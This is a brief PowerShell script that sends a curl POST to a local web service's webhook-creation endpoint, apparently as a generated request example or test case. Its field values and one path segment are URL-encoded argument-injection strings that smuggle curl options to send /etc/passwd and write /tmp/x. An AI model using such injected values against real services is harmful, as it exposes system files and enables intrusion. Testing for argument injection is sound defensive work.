# PowerShell 7.3+ with curl.exe (shipped with Windows 10 and later).
$PSNativeCommandArgumentPassing = 'Standard'
$body = "app=-X%20DELETE%20--data%20%40%2Fetc%2Fpasswd%20-o%20%2Ftmp%2Fx%20%3Capp%3E&event=-X%20DELETE%20--data%20%40%2Fetc%2Fpasswd%20-o%20%2Ftmp%2Fx%20%3Cevent%3E&url=-X%20DELETE%20--data%20%40%2Fetc%2Fpasswd%20-o%20%2Ftmp%2Fx%20%3Curl%3E"
$bodyFile = New-TemporaryFile
[System.IO.File]::WriteAllBytes($bodyFile.FullName, [System.Text.Encoding]::UTF8.GetBytes($body))
curl.exe --globoff --silent --show-error --request POST "http://localhost:8080/webservice/-X%20DELETE%20--data%20%40%2Fetc%2Fpasswd%20-o%20%2Ftmp%2Fx%20%3Caccount%3E/CreateWebHook" `
  --header "Authorization: Bearer YOUR_API_KEY" `
  --header "Content-Type: application/x-www-form-urlencoded" `
  --data-binary "@$($bodyFile.FullName)"
Remove-Item $bodyFile
